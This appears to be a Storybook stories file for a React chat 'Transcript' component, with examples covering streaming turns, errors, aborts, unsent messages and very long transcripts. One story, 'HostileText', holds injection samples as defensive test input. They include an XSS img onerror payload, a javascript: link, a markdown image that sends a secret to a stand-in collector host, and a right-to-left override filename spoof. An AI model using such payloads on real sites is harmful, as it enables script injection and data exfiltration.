import { BUILT_AT } from '@callboard/core/testing';
import type { Meta, StoryObj } from '@storybook/react-vite';
import type { ReactElement } from 'react';
import { startConversation, writeUpgradeTurn, writeWorkingTurn } from '../../test/example-conversation.ts';
import type { Conversation } from '../../test/example-conversation.ts';
import { longTranscript, longTurn } from '../../test/long-transcript.ts';
import { createFrozenClock } from '../testing/frozen-clock.ts';
import type { TranscriptProps } from './transcript-props.ts';
import { Transcript } from './transcript.tsx';

const meta: Meta<typeof Transcript> = {
  title: 'Transcript/Examples',
  component: Transcript,
  parameters: { layout: 'fullscreen' },
  tags: ['!autodocs'],
};

export default meta;
type Story = StoryObj<typeof Transcript>;

const idle = { onAnswer() {}, onCancel() {}, onRetry() {}, onResume() {} };

/** Plays a conversation to its fixed point and stops the clock there. */
function example(
  write: (conversation: Conversation) => void,
  props: Partial<TranscriptProps> = {},
  size: { width?: number; height?: number } = {},
): Story {
  return {
    render: () => {
      const conversation = startConversation();
      write(conversation);
      return framed(
        <Transcript
          store={conversation.store}
          environment={{ clock: createFrozenClock(conversation.clock.now()) }}
          motion="off"
          text={{ timeZone: 'UTC' }}
          {...idle}
          {...props}
        />,
        size,
      );
    },
  };
}

function framed(
  part: ReactElement,
  { width, height = 640 }: { width?: number; height?: number },
): ReactElement {
  return <div style={{ blockSize: height, maxInlineSize: width ?? '100%' }}>{part}</div>;
}

export const Finished: Story = example(writeUpgradeTurn, { thinking: 'open' });

export const Working: Story = {
  ...example((conversation) => {
    writeUpgradeTurn(conversation);
    writeWorkingTurn(conversation);
  }),
  tags: ['look-rtl', 'look-forced-colors', 'look-narrow'],
};

/** Data of the source's own inside a message, and something an agent made beside it. */
export const DataAndArtifacts: Story = example(({ builder: b, send }) => {
  b.runStart();
  b.text('m1', 'The route is planned.');
  b.event({
    type: 'block.set',
    messageId: 'm1',
    blockId: 'd1',
    kind: 'data',
    value: { stops: ['Basel', 'Bern'], km: 98 },
  });
  b.event({
    type: 'artifact.set',
    artifactId: 'a1',
    name: 'route.gpx',
    mediaType: 'application/gpx+xml',
    text: '<gpx/>',
  });
  b.runEnd();
  send();
});

export const NarrowWorking: Story = example(writeWorkingTurn, {}, { width: 320 });

export const ConnectionLost: Story = example((conversation) => {
  writeUpgradeTurn(conversation);
  writeWorkingTurn(conversation);
  conversation.builder
    .in({ runId: 'r2' })
    .streamEnd('error', { message: 'read ECONNRESET', code: 'ECONNRESET' });
  conversation.send();
});

export const Stopped: Story = example((conversation) => {
  writeWorkingTurn(conversation);
  conversation.store.abort();
});

export const NotSent: Story = example(({ builder, send }) => {
  builder.event({ type: 'message.start', messageId: 'c1', clientId: 'c1', role: 'user', authority: 'local' });
  builder.event({
    type: 'block.set',
    messageId: 'c1',
    blockId: 'text',
    kind: 'text',
    text: 'hello',
    authority: 'local',
  });
  builder.event({
    type: 'message.end',
    messageId: 'c1',
    outcome: 'failed',
    error: 'HTTP 500',
    authority: 'local',
  });
  send();
});

export const HostileText: Story = example(({ builder: b, send }) => {
  b.runStart();
  b.text(
    'm1',
    [
      '<img src=x onerror=alert(1)> <style>*{display:none}</style>',
      '[a](javascript:alert(1)) and ![p](https://collector.example/p.png?q=SECRET)',
      'invoice\u202egnp.exe',
    ].join('\n\n'),
  );
  b.runEnd();
  send();
});

export const Empty: Story = {
  render: () =>
    framed(<Transcript store={startConversation().store} empty="Ask something to begin." />, { height: 240 }),
};

/** 2,000 turns' worth of rows: only those in view are in the document. */
export const Long: Story = {
  render: () =>
    framed(
      <Transcript
        store={longTranscript(100, 18).store}
        environment={{ clock: createFrozenClock(BUILT_AT.seen) }}
        motion="off"
        thinking="open"
      />,
      {},
    ),
};

/** One turn that holds 2,000 calls. */
export const OneLongTurn: Story = {
  render: () =>
    framed(
      <Transcript
        store={longTurn(2000).store}
        environment={{ clock: createFrozenClock(BUILT_AT.seen) }}
        motion="off"
      />,
      {},
    ),
};
